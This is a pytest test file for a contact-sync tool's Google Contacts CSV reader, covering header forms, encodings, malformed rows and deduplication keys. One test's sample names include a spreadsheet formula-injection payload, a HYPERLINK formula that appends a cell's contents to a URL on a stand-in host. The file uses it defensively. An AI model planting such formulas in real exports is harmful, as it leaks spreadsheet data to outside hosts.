import csv
import io
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from syncer.core.model import Position, Snapshot
from syncer.core.normalise.contacts import normalise
from syncer.errors import SourceError
from syncer.sources.google_csv import GoogleCsv
from syncer.sources.reading.limits import Limits
from syncer.sources.recognise import recognise

NEW = (
    *("First Name", "Middle Name", "Last Name", "Name Prefix", "Name Suffix", "Nickname", "File As"),
    *("Organization Name", "Organization Title", "Birthday", "Notes", "Labels", "E-mail 1 - Label", "E-mail 1 - Value"),
    *("E-mail 2 - Label", "E-mail 2 - Value", "Phone 1 - Label", "Phone 1 - Value", "Website 1 - Value"),
)
OLD = (
    "Name",
    "Given Name",
    "Family Name",
    "Group Membership",
    "E-mail 1 - Type",
    "E-mail 1 - Value",
    "Phone 1 - Value",
)


def table(header: Sequence[str], *rows: Mapping[str, str], delimiter: str = ",") -> str:
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, header, restval="", delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def read(folder: Path, content: str | bytes, limits: Limits | None = None) -> Snapshot:
    path = folder / "contacts.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    snapshot = GoogleCsv("google", path, limits or Limits()).fetch()
    accounted = len(snapshot.records) + snapshot.merged + len(snapshot.rejected) + sum(snapshot.skipped.values())
    assert snapshot.records_in == accounted
    return snapshot


ANN = {"First Name": "Ann", "Last Name": "Lee", "Organization Name": "Acme", "E-mail 1 - Value": "ann@lee.example"}


def test_gc01_gc02_both_forms_of_header_are_read(tmp_path: Path) -> None:
    (new,) = read(tmp_path, table(NEW, ANN)).records
    old_row = {"Name": "Ann Lee", "Given Name": "Ann", "Family Name": "Lee", "E-mail 1 - Value": "ann@lee.example"}
    (old,) = read(tmp_path, table(OLD, old_row)).records
    assert (new.full_name, new.first_name, new.last_name, new.emails) == (
        *(old.full_name, old.first_name, old.last_name, old.emails),
    )
    assert new.ref.key == old.ref.key == "ann@lee.example", "changing the form of the export changes nobody's key"


def test_gc03_several_values_in_a_cell_are_taken_apart_and_the_primary_comes_first(tmp_path: Path) -> None:
    row = ANN | {
        "E-mail 1 - Label": "Other",
        "E-mail 1 - Value": "a@x.example ::: b@x.example",
        "E-mail 2 - Label": "* Work",
        "E-mail 2 - Value": "work@x.example",
        "Phone 1 - Value": "+1 212 555 0142 ::: +1 212 555 0143",
    }
    (record,) = read(tmp_path, table(NEW, row)).records
    assert record.emails == ("work@x.example", "a@x.example", "b@x.example")
    assert record.phones == ("+1 212 555 0142", "+1 212 555 0143")


def test_gc05_outlooks_form_from_googles_dialog_is_named_as_such(tmp_path: Path) -> None:
    header = "First Name,Middle Name,Last Name,Title,Suffix,E-mail Address,E-mail 2 Address,Primary Phone,Job Title"
    with pytest.raises(SourceError, match=r"E-CSV-KIND.*look like Outlook contacts"):
        read(tmp_path, header + "\nAnn,,Lee,,,ann@lee.example,,,CEO\n")


def test_a_name_is_built_where_the_form_has_no_column_for_it(tmp_path: Path) -> None:
    rows = (
        {"Name Prefix": "Dr.", "First Name": "Ana", "Middle Name": "Lucía", "Last Name": "Soto", "Name Suffix": "Jr."},
        {"First Name": "太郎", "Last Name": "山田"},
        {"File As": "Mum"},
    )
    names = [record.full_name for record in read(tmp_path, table(NEW, *rows)).records]
    assert names == ["Dr. Ana Lucía Soto Jr.", "山田太郎", "Mum"]


def test_labels_of_the_user_are_kept_and_those_of_the_system_are_not(tmp_path: Path) -> None:
    row = ANN | {"Labels": "* myContacts ::: University ::: * friends ::: * starred"}
    (record,) = read(tmp_path, table(NEW, row)).records
    assert record.said.labels == ("University", "friends")


def test_an_organisation_marked_as_former_is_no_present_job(tmp_path: Path) -> None:
    header = (*OLD, *(f"Organization {n} - {part}" for n in (1, 2) for part in ("Type", "Name", "Title")))
    row = {
        "Name": "Bo",
        "Organization 1 - Name": "Acme",
        "Organization 2 - Type": "Former",
        "Organization 2 - Name": "Old Co",
    }
    (record,) = read(tmp_path, table(header, row)).records
    assert record.positions == (Position("Acme"), Position("Old Co", current=False))


def test_gc13_somebody_with_only_an_address_is_kept_and_a_company_is_not_a_person(tmp_path: Path) -> None:
    rows = (
        {"E-mail 1 - Value": "only@example.org"},
        {"Organization Name": "Corner Pizza", "Phone 1 - Value": "+12125550142"},
        {"Organization Name": "Acme", "E-mail 1 - Value": "info@acme.example"},
        {"Organization Name": "Acme", "E-mail 1 - Value": "jo@acme.example"},
        {"Labels": "* myContacts"},
    )
    snapshot = read(tmp_path, table(NEW, *rows))
    shown = [contact.name.display for contact in normalise(snapshot, "US")]
    assert shown == ["only@example.org", "jo@acme.example"]
    assert snapshot.skipped == {"companies": 2}
    assert [(rejected.place.line, rejected.code) for rejected in snapshot.rejected] == [(6, "E-CSV-NOBODY")]


def test_lc44_the_same_row_twice_is_one_person(tmp_path: Path) -> None:
    assert read(tmp_path, table(NEW, ANN, ANN)).merged == 1


def test_people_who_share_an_address_keep_keys_that_do_not_depend_on_the_order(tmp_path: Path) -> None:
    rows = [ANN | {"First Name": name} for name in ("Ann", "Bo", "Cy")]
    forward = {record.full_name: record.ref.key for record in read(tmp_path, table(NEW, *rows)).records}
    backward = {record.full_name: record.ref.key for record in read(tmp_path, table(NEW, *rows[::-1])).records}
    assert forward == backward == {
        "Ann Lee": "ann@lee.example|annlee",
        "Bo Lee": "ann@lee.example|bolee",
        "Cy Lee": "ann@lee.example|cylee",
    }  # fmt: skip


def test_a_name_and_an_employer_alone_are_a_weak_key(tmp_path: Path) -> None:
    (record,) = read(tmp_path, table(NEW, {"First Name": "Tessa", "Organization Name": "Moth"})).records
    assert (record.ref.key, record.weak_key) == ("tessa|moth", True)


# --- the cases of any CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "content"),
    [
        ("LC06 reordered", table(NEW[::-1], ANN)),
        ("LC08 byte order mark", b"\xef\xbb\xbf" + table(NEW, ANN).encode()),
        ("LC09 no-break spaces", table(NEW, ANN).replace("First Name", " First\u00a0Name ")),
        ("LC10 UTF-16", table(NEW, ANN).encode("utf-16")),
        ("LC14 NUL", table(NEW, ANN).replace("Ann", "A\0nn")),
        ("LC19 semicolons", table(NEW, ANN, delimiter=";")),
        ("LC20 tabs", table(NEW, ANN, delimiter="\t")),
        ("LC24 CR only", table(NEW, ANN).replace("\r\n", "\r")),
        ("LC27 blank rows", table(NEW, {}, ANN, {}) + "\r\n"),
        ("LC25 short row", table(NEW, ANN).rstrip("\r\n").rstrip(",")),
    ],
)
def test_every_way_of_saving_the_file_gives_the_same_person(tmp_path: Path, case: str, content: str | bytes) -> None:
    (record,) = read(tmp_path, content).records
    assert (record.full_name, record.emails) == ("Ann Lee", ("ann@lee.example",)), case


def test_lc11_windows_1252_is_read_and_said(tmp_path: Path) -> None:
    snapshot = read(tmp_path, table(NEW, ANN | {"First Name": "José"}, ANN | {"First Name": "Zoë"}).encode("cp1252"))
    assert [record.first_name for record in snapshot.records] == ["José", "Zoë"]
    assert any("1252" in note for note in snapshot.notes)


@pytest.mark.parametrize(
    ("case", "bad", "code"),
    [
        ("LC13 a byte that is no text", b"A\xffn,,Bad" + b"," * 16, "E-CSV-BYTES"),
        ("LC18 10,000 columns", b"," * 10_000 + b"x", "E-CSV-COLUMNS"),
        ("LC22 a quote that is not doubled", b'Bob,"The Builder" Smith' + b"," * 17, "E-CSV-QUOTE"),
        ("LC26 shifted columns", b"Ann,,Lee" + b"," * 17 + b"x", "E-CSV-LONG-ROW"),
    ],
)
def test_one_bad_row_is_set_aside_with_its_place_and_the_others_stay(
    tmp_path: Path, case: str, bad: bytes, code: str
) -> None:
    head, row = table(NEW, ANN | {"First Name": "Ånn"}).encode().split(b"\r\n")[:2]
    snapshot = read(tmp_path, b"\r\n".join((head, row, bad, row.replace(b"ann@", b"bo@"), b"")))
    assert len(snapshot.records) == 2, case
    assert [(str(rejected.place).split(":")[:2], rejected.code) for rejected in snapshot.rejected] == [
        (["contacts.csv", "3"], code)
    ]


def test_lc17_too_many_rows_are_refused(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match=r"E-CSV-ROWS.*more than 10 rows.*settings"):
        read(tmp_path, table(NEW, *[ANN] * 11), Limits(rows=10))


def test_lc23_a_line_break_in_a_note_is_kept(tmp_path: Path) -> None:
    (record,) = read(tmp_path, table(NEW, ANN | {"Notes": "one\ntwo"})).records
    assert record.said.notes == "one\ntwo"


def test_lc38_lc40_lc42_names_arrive_as_they_are_and_only_keys_are_cleaned(tmp_path: Path) -> None:
    names = ("🚀 Dr. Ann  Lee", '=HYPERLINK("http://x/?"&A1,"hi")', "An\u200bn", "@home", "＝1+1")
    snapshot = read(tmp_path, table(NEW, *({"First Name": name, "Phone 1 - Value": "+12125550142"} for name in names)))
    assert tuple(contact.name.display for contact in normalise(snapshot, "US")) == names


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "E-CSV-EMPTY"),
        (b"Ann,Lee,ann@lee.example,x\n", "E-CSV-HEADER"),
        (b"PK\x03\x04", "E-CSV-TYPE"),
        (b"<html>Sign in</html>", "E-CSV-TYPE"),
        (
            b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\nAnn,Lee,,,,,01 Jan 2024\n",
            "E-CSV-KIND",
        ),
    ],
)
def test_lc03_lc48_a_wrong_file_gives_one_clear_message(tmp_path: Path, content: bytes, code: str) -> None:
    with pytest.raises(SourceError) as refused:
        read(tmp_path, content)
    assert refused.value.code == code
    assert "contacts.csv" in str(refused.value)
    assert "lee.example" not in str(refused.value)


def test_an_export_with_columns_deleted_or_mixed_keeps_every_job_and_address(tmp_path: Path) -> None:
    jobs = "Organization 1 - Name,Organization 1 - Title,Organization 2 - Name"
    header = f"First Name,E-mail 1 - Value,E-mail 1 - Value,{jobs}"
    (tmp_path / "contacts.csv").write_text(
        f"{header}\nAnn,a@example.com:::b@example.com,c@example.com,Acme,CTO,Globex\n"
    )
    assert recognise(tmp_path / "contacts.csv") == "google_csv"
    (record,) = GoogleCsv("google", tmp_path / "contacts.csv").fetch().records
    assert record.emails == ("a@example.com", "b@example.com", "c@example.com")
    assert record.positions == (Position("Acme", "CTO"), Position("Globex", ""))


def test_with_a_column_of_somebody_s_own_it_is_a_sheet(tmp_path: Path) -> None:
    (tmp_path / "contacts.csv").write_text(
        "First Name,Last Name,E-mail 1 - Value,Company\nAnn,Lee,a@example.com,Acme\n"
    )
    assert recognise(tmp_path / "contacts.csv") == "spreadsheet"
